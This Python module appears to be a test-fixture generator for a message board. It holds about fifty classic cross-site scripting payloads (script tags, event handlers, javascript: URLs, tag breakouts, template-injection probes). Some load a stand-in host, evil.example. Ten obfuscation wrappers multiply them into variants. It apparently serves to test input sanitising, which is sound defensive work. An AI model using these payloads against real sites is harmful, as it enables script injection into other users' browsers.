"""What somebody writes who wants a script to run on the board: the classics, in every wrapping."""

from __future__ import annotations

from itertools import cycle, islice, product

RUN = "window.ran=1"
OFF = "https://evil.example/x"

CLASSICS = (
    f"<script>{RUN}</script>",
    f"<script src={OFF}></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={OFF}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data={OFF}></object>",
    f"<embed src={OFF}>",
    f"<link rel=stylesheet href={OFF}>",
    f"<style>@import '{OFF}';</style>",
    f"<style>*{{background:url({OFF})}}</style>",
    f"<base href={OFF}>",
    f"<meta http-equiv=refresh content='0;url={OFF}'>",
    f"<form action={OFF}><button autofocus onfocus={RUN}>x</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<video poster={OFF}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<body onpageshow={RUN}>",
    f"<math><mi href=javascript:{RUN}>x</mi></math>",
    f"<template><script>{RUN}</script></template>",
    f"<dialog open oncancel={RUN}><article class=item id=p1>x</article></dialog>",
    f"<a href=javascript:{RUN} data-key=c>x</a>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"` onerror={RUN} `",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</article><script>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<mark style='position:fixed;inset:0' onmouseover=window.ran=1>",
    f"javascript:{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    "{{ 7 * 7 }}{{ request.app }}{% raw %}",
    f"${{{RUN}}}#{{{RUN}}}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
)


def _as_is(text: str) -> str:
    return text


def _double(text: str) -> str:
    return text + text


def _upper(text: str) -> str:
    return text.replace("script", "ScRiPt").replace("img", "iMg").replace("svg", "sVg")


def _slashed(text: str) -> str:
    return text.replace(" on", "/on").replace(" src", "/src")


def _padded(text: str) -> str:
    return f"is it down? {text} since monday"


def _quoted(text: str) -> str:
    return f"\"'`>{text}"


def _broken(text: str) -> str:
    return text.replace(" on", "\non").replace("javascript:", "java\tscript:")


def _hidden(text: str) -> str:
    return f"\u202e{text}\u2066"


def _long(text: str) -> str:
    return text.ljust(280, "x") + text


def _entities(text: str) -> str:
    return text.replace(":", "&colon;").replace("(", "&lpar;")


WRAPPINGS = (
    _as_is, _double, _upper, _slashed, _padded, _quoted, _broken, _hidden, _long, _entities,
)  # fmt: skip


def payloads(many: int) -> list[str]:
    """Return that many different ones, every classic among the first fifty."""
    both = (wrap(text) for wrap, text in product(WRAPPINGS, CLASSICS))
    if many >= len(CLASSICS):
        return list(islice(both, many))
    return list(islice(cycle(CLASSICS), many))
